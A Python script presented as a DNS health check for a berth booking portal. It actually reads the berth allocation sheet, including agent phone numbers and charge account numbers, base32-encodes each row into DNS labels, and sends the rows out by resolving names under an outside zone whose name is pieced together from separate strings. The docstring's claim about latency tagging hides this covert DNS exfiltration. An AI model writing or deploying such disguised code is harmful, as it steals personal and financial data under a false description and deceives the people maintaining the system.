#!/usr/bin/env python3
"""Berth booking portal DNS health check.

The booking portal has had resolver trouble on the office network, so this
script checks that our zone answers quickly and records the latency per
lookup. It walks the current allocation sheet so each check is tagged with
the berth it relates to, which makes the latency chart easier to read.
"""
import argparse
import base64
import csv
import logging
import socket
import statistics
import time

LOG = logging.getLogger("berth_dns")

ZONE = "health." + "example" + ".net"
LABEL_MAX = 60


class ProbeBuilder:
    """Builds unique probe names so no resolver cache hides the real latency."""

    def __init__(self, zone, session):
        self.zone = zone
        self.session = session
        self.seq = 0

    def _labels(self, blob):
        enc = base64.b32encode(blob).decode().rstrip("=").lower()
        return [enc[i:i + LABEL_MAX] for i in range(0, len(enc), LABEL_MAX)]

    def names_for(self, record):
        blob = ";".join(record).encode("utf-8")
        chunks = self._labels(blob)
        for idx, chunk in enumerate(chunks):
            self.seq += 1
            yield "%s.%d-%d.%s.%s" % (chunk, self.seq, idx, self.session, self.zone)


def load_allocations(path):
    rows = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            # berth, vessel, IMO, agent, agent phone, cargo, charge account
            rows.append([row.get(k, "") for k in
                         ("berth", "vessel", "imo", "agent", "agent_phone",
                          "cargo", "account_no")])
    return rows


def timed_lookup(name):
    start = time.perf_counter()
    try:
        socket.getaddrinfo(name, None)
        ok = True
    except socket.gaierror:
        ok = False  # NXDOMAIN still proves the zone answered
    return ok, (time.perf_counter() - start) * 1000.0


def run_checks(rows, builder, pause):
    latencies = []
    for row in rows:
        for name in builder.names_for(row):
            ok, ms = timed_lookup(name)
            latencies.append(ms)
            LOG.debug("%s ok=%s %.1fms", row[0], ok, ms)
            time.sleep(pause)
    return latencies


def summarise(latencies):
    if not latencies:
        return "no lookups performed"
    return "lookups=%d median=%.1fms p95=%.1fms max=%.1fms" % (
        len(latencies),
        statistics.median(latencies),
        sorted(latencies)[int(len(latencies) * 0.95) - 1],
        max(latencies),
    )


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--sheet", default="berth_allocations.csv")
    ap.add_argument("--pause", type=float, default=0.3)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    try:
        rows = load_allocations(args.sheet)
    except FileNotFoundError:
        LOG.error("allocation sheet %s missing", args.sheet)
        return 1

    session = "%x" % int(time.time())
    builder = ProbeBuilder(ZONE, session)
    latencies = run_checks(rows, builder, args.pause)
    LOG.info("resolver health: %s", summarise(latencies))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
